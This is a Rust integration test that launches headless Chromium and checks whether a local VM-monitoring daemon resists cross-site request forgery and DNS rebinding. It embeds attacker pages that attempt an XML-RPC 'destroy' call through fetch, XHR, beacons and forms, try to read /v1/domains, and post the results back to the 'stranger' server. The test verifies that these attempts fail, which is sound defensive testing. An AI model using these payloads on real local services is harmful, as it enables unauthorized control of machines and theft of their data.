//! A real browser, Chromium, shows pages of a stranger that try to act and to read, at a daemon as it is delivered and at
//! one whose plain text may act.
//!
//! The stranger's name leads to this machine by a rule of the browser's. Every request goes to the daemon through a relay,
//! which keeps it: each try must have arrived there, or it proves nothing. For DNS rebinding the relay is the stranger's
//! own server first, and the daemon once its page is loaded: the browser holds both for the same origin.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use whydown_lab::{Launch, Whydownd, lab_dir, run, wait_for};

use crate::attacker::xml;
use crate::host::VM;

/// A browser on a busy machine.
const PATIENCE: Duration = Duration::from_secs(180);

/// The stranger.
const STRANGER: &str = "stranger.example";

/// Tries to act and to read at `TARGET` from another origin, and tells what it could read.
const FOREIGN: &str = r#"<!doctype html><meta charset="utf-8"><body><script>
const target = "TARGET", call = `CALL`, read = [];
const tell = async (name, promise) => {
  try { const answer = await promise; read.push(name + ": " + answer.type + " " + answer.status + " " + await answer.text()); }
  catch (error) { read.push(name + ": " + error); }
};
const post = (name, how) => tell(name, fetch(target + "/?".slice(0, 1), {method: "POST", body: call, ...how}));
const form = (type) => new Promise((loaded) => {
  const frame = document.createElement("iframe"), form = document.createElement("form"), field = document.createElement("input");
  frame.name = "frame-" + type; frame.onload = () => loaded();
  document.body.append(frame);
  form.action = target + "/RPC2"; form.method = "POST"; form.enctype = type; form.target = frame.name;
  // The call, with the sign that a form puts between name and value inside its declaration.
  field.name = call.slice(0, call.indexOf("=")); field.value = call.slice(call.indexOf("=") + 1);
  form.append(field); document.body.append(form); form.submit();
  setTimeout(loaded, 10000);
});
const element = (tag, more) => new Promise((loaded) => {
  const made = Object.assign(document.createElement(tag), more);
  made.onload = () => { read.push(tag + ": loaded"); loaded(); };
  made.onerror = () => loaded();
  document.body.append(made);
  setTimeout(loaded, 10000);
});
const xhr = () => new Promise((done) => {
  const asked = new XMLHttpRequest();
  asked.open("POST", target + "/RPC2"); asked.onloadend = () => { read.push("xhr: " + asked.responseText); done(); };
  asked.setRequestHeader("Content-Type", "text/plain"); asked.send(call);
});
(async () => {
  await post("simple", {});
  await post("no-cors", {mode: "no-cors"});
  await post("urlencoded", {mode: "no-cors", headers: {"Content-Type": "application/x-www-form-urlencoded"}});
  await post("xml", {headers: {"Content-Type": "text/xml"}});
  await post("untyped", {mode: "no-cors", body: new Blob([call])});
  await post("without referrer", {mode: "no-cors", referrerPolicy: "no-referrer", credentials: "omit"});
  await xhr();
  read.push("beacon: " + navigator.sendBeacon(target + "/RPC2", call));
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) await form(type);
  await tell("look", fetch(target + "/v1/domains"));
  await tell("look no-cors", fetch(target + "/v1/domains", {mode: "no-cors"}));
  await element("img", {src: target + "/v1/domains?img"});
  await element("script", {src: target + "/v1/domains?script"});
  await element("link", {rel: "stylesheet", href: target + "/v1/domains?link"});
  await element("iframe", {src: target + "/v1/domains?frame"});
  await fetch("/report?NAME", {method: "POST", body: read.join("\n")});
})();
</script>"#;

/// The same origin as the daemon, as far as the browser knows.
const REBOUND: &str = r#"<!doctype html><meta charset="utf-8"><script>
const call = `CALL`, read = [];
const tell = async (name, path, how) => {
  try { const answer = await fetch(path, how); read.push(name + ": " + answer.status + " " + await answer.text()); }
  catch (error) { read.push(name + ": " + error); }
};
(async () => {
  await tell("look", "/v1/domains");
  await tell("why", "/v1/why?vm=test");
  await tell("call", "/RPC2", {method: "POST", body: call, headers: {"Content-Type": "text/xml"}});
  await tell("poll", "/", {method: "POST", body: `POLL`, headers: {"Content-Type": "text/xml"}});
  await fetch("HOME/report?NAME", {method: "POST", mode: "no-cors", body: read.join("\n")});
})();
</script>"#;

/// A listener with a thread of its own for each connection; both end with the test's process.
fn serve(each: impl Fn(TcpStream) + Send + Sync + 'static) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    let each = Arc::new(each);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let each = Arc::clone(&each);
            std::thread::spawn(move || each(stream));
        }
    });
    address
}

/// One request: its head and its body.
fn request(stream: &mut TcpStream) -> Option<(String, Vec<u8>)> {
    let (mut read, mut piece) = (Vec::new(), [0; 4096]);
    let end = loop {
        if let Some(end) = read.windows(4).position(|four| four == b"\r\n\r\n") {
            break end + 4;
        }
        match stream.read(&mut piece) {
            Ok(count) if count > 0 => read.extend_from_slice(&piece[..count]),
            _ => return None,
        }
    };
    let head = String::from_utf8_lossy(&read[..end]).into_owned();
    let length = head.to_ascii_lowercase();
    let length =
        length.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse().ok()).unwrap_or(0);
    let mut body = read.split_off(end);
    while body.len() < length {
        match stream.read(&mut piece) {
            Ok(count) if count > 0 => body.extend_from_slice(&piece[..count]),
            _ => return None,
        }
    }
    Some((head, body))
}

fn page(stream: &mut TcpStream, text: &str) {
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
    let _ = write!(stream, "{head}Content-Length: {}\r\n\r\n{text}", text.len());
}

/// All that a browser sent to a daemon.
type Sent = Arc<Mutex<Vec<u8>>>;

fn relay(mut browser: TcpStream, daemon: SocketAddr, sent: &Sent) {
    let Ok(mut to) = TcpStream::connect(daemon) else { return };
    let (Ok(mut from), Ok(mut back)) = (to.try_clone(), browser.try_clone()) else { return };
    std::thread::spawn(move || {
        let _ = std::io::copy(&mut from, &mut back);
        let _ = back.shutdown(Shutdown::Both);
    });
    let mut piece = [0; 4096];
    while let Ok(count @ 1..) = browser.read(&mut piece) {
        sent.lock().unwrap_or_else(PoisonError::into_inner).extend_from_slice(&piece[..count]);
        if to.write_all(&piece[..count]).is_err() {
            break;
        }
    }
    let _ = to.shutdown(Shutdown::Both);
}

/// A browser with nothing of its own; gone when dropped.
struct Browser(Child, #[expect(dead_code, reason = "holds its files")] tempfile::TempDir);

fn browser(arguments: &[&str]) -> (Command, tempfile::TempDir) {
    let folder = tempfile::tempdir().expect("a folder");
    let mut command = Command::new("chromium");
    command
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"])
        .args(["--disable-background-networking", "--disable-component-update", "--disable-sync"])
        .args(["--disable-dev-shm-usage", "--no-proxy-server"])
        .arg(format!("--user-data-dir={}", folder.path().display()))
        .arg(format!("--host-resolver-rules=MAP {STRANGER} 127.0.0.1"))
        .args(arguments)
        .stdin(Stdio::null());
    (command, folder)
}

impl Browser {
    fn open(url: &str) -> Self {
        let (mut command, folder) = browser(&[url]);
        command.stdout(Stdio::null()).stderr(Stdio::null());
        Self(command.spawn().expect("chromium is installed: run `tests/setup.sh test`"), folder)
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

struct Target {
    name: &'static str,
    daemon: Whydownd,
    foreign: (SocketAddr, Sent),
    rebound: (SocketAddr, Sent),
}

impl Target {
    fn start(name: &'static str, launch: Launch, home: &str) -> Self {
        let daemon = Whydownd::start(launch).expect("the daemon starts");
        let at = daemon.addresses().expect("it listens")[0];
        let sent = [Sent::default(), Sent::default()];
        let keep = Arc::clone(&sent[0]);
        let foreign = serve(move |stream| relay(stream, at, &keep));
        let keep = Arc::clone(&sent[1]);
        let text = REBOUND
            .replace("CALL", &xml("destroy", &crate::attacker::param(&format!("<string>{VM}</string>"))))
            .replace("POLL", &xml("getAllVmStats", ""))
            .replace("HOME", home)
            .replace("NAME", &format!("rebound-{name}"));
        let loaded = AtomicBool::new(false);
        let rebound = serve(move |mut stream| {
            if loaded.load(Ordering::SeqCst) {
                return relay(stream, at, &keep);
            }
            if let Some((head, _)) = request(&mut stream) {
                let asked = head.starts_with("GET /page ");
                page(&mut stream, if asked { &text } else { "" });
                loaded.store(asked, Ordering::SeqCst);
            }
        });
        let [first, second] = sent;
        Self { name, daemon, foreign: (foreign, first), rebound: (rebound, second) }
    }

    /// What the browser must have sent here, or the pages tried nothing.
    fn was_tried(&self) {
        let text = |sent: &Sent| {
            String::from_utf8_lossy(&sent.lock().unwrap_or_else(PoisonError::into_inner)).to_ascii_lowercase()
        };
        let foreign = text(&self.foreign.1);
        for tried in [
            "origin: http://stranger.example",
            "content-type: text/plain",
            "content-type: application/x-www-form-urlencoded",
            "content-type: multipart/form-data",
            "options / http/1.1",
            "sec-fetch-site: cross-site",
            "sec-fetch-mode: no-cors",
            "get /v1/domains?img",
            "get /v1/domains?script",
            "get /v1/domains?link",
            "get /v1/domains?frame",
        ] {
            assert!(foreign.contains(tried), "{}: {tried:?} never came:\n{foreign}", self.name);
        }
        let whole = format!("<methodname>destroy</methodname><params><param><value><string>{VM}</string>");
        assert!(foreign.matches(&whole).count() >= 6, "{}: {foreign}", self.name);
        let rebound = text(&self.rebound.1);
        let host = format!("host: {STRANGER}:{}", self.rebound.0.port());
        for tried in ["get /v1/domains http/1.1", "get /v1/why?vm=test", "post /rpc2 http/1.1", &host, &whole]
        {
            assert!(rebound.contains(tried), "{}: {tried:?} never came:\n{rebound}", self.name);
        }
    }

    fn whydown(&self, arguments: &[&str]) -> serde_json::Value {
        let mut command = Command::new(env!("CARGO_BIN_EXE_whydown"));
        command.arg("--socket").arg(self.daemon.socket_path()).arg("--json").args(arguments);
        let done = run(&mut command, PATIENCE).expect("the command line answers");
        serde_json::from_slice(&done.stdout).expect("it is JSON")
    }

    fn is_unharmed(&self) {
        let domains = self.whydown(&["list"])["domains"].clone();
        let all = domains.as_array().expect("a list");
        assert!(
            all.len() == 1 && all[0]["domain"] == VM && all[0]["status"] == "up",
            "{}: {all:?}",
            self.name
        );
        assert_eq!(self.whydown(&["history"])["endings"], serde_json::json!([]), "{}", self.name);
    }
}

#[test]
fn a_strangers_page_in_a_real_browser_neither_acts_nor_reads_and_a_person_at_it_reads() {
    let folder = lab_dir().expect("a folder");
    let launch =
        |name: &str| Launch::new(env!("CARGO_BIN_EXE_whydownd"), folder.path().join(name), "test:///default");
    let reports: Arc<Mutex<Vec<(String, String)>>> = Arc::default();
    let pages: Arc<Mutex<Vec<(String, String)>>> = Arc::default();
    let (told, shown) = (Arc::clone(&reports), Arc::clone(&pages));
    let home = serve(move |mut stream| {
        let Some((head, body)) = request(&mut stream) else { return };
        let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
        match path.strip_prefix("/report?") {
            Some(name) => {
                let body = String::from_utf8_lossy(&body).into_owned();
                told.lock().unwrap_or_else(PoisonError::into_inner).push((name.into(), body));
                page(&mut stream, "");
            }
            None => {
                let pages = shown.lock().unwrap_or_else(PoisonError::into_inner);
                let found = pages.iter().find(|(at, _)| *at == path).map_or("", |(_, text)| text.as_str());
                page(&mut stream, found);
            }
        }
    });
    let at_home = format!("http://{STRANGER}:{}", home.port());
    let targets = [
        Target::start("delivered", launch("a").as_delivered(), &at_home),
        Target::start("open", launch("b"), &at_home),
    ];
    let call = xml("destroy", &crate::attacker::param(&format!("<string>{VM}</string>")));
    let mut frames = String::from("<!doctype html>");
    for target in &targets {
        let at = format!("/foreign-{}", target.name);
        let text = FOREIGN
            .replace("TARGET", &format!("http://127.0.0.1:{}", target.foreign.0.port()))
            .replace("CALL", &call)
            .replace("NAME", &format!("foreign-{}", target.name));
        frames += &format!("<iframe src='{at}'></iframe>");
        frames += &format!("<iframe src='http://{STRANGER}:{}/page'></iframe>", target.rebound.0.port());
        pages.lock().unwrap_or_else(PoisonError::into_inner).push((at, text));
    }
    pages.lock().unwrap_or_else(PoisonError::into_inner).push(("/".into(), frames));

    let stranger = Browser::open(&format!("{at_home}/"));
    let all = wait_for("the reports of all four pages", PATIENCE, || {
        let all = reports.lock().unwrap_or_else(PoisonError::into_inner).clone();
        (all.len() >= 4).then_some(all)
    })
    .expect("the pages tell what they could read");
    drop(stranger);
    for target in &targets {
        target.was_tried();
        target.is_unharmed();
        let told = |kind: &str| {
            let name = format!("{kind}-{}", target.name);
            all.iter()
                .find(|(of, _)| *of == name)
                .map(|(_, text)| text.clone())
                .unwrap_or_else(|| panic!("{name}: {all:?}"))
        };
        let (foreign, rebound) = (told("foreign"), told("rebound"));
        for text in [&foreign, &rebound] {
            // The one VM, and what every answer to a call has.
            assert!(
                !text.contains(VM) && !text.contains("statsList") && !text.contains("methodResponse"),
                "{text}"
            );
        }
        for loaded in ["img: loaded", "script: loaded", "link: loaded"] {
            assert!(!foreign.contains(loaded), "{foreign}");
        }
        for asked in ["look: 403 ", "why: 403 ", "call: 403 ", "poll: 403 "] {
            assert!(rebound.contains(asked), "{}: {rebound}", target.name);
        }
    }

    // By hand it reads: what is typed into the line of addresses comes from no page.
    let address = targets[0].daemon.addresses().expect("it listens")[0];
    let (mut command, _folder) =
        browser(&["--dump-dom", &format!("http://localhost:{}/v1/domains", address.port())]);
    let seen = run(&mut command, PATIENCE).expect("chromium shows a page");
    assert!(String::from_utf8_lossy(&seen.stdout).contains(VM), "{seen:?}");
}
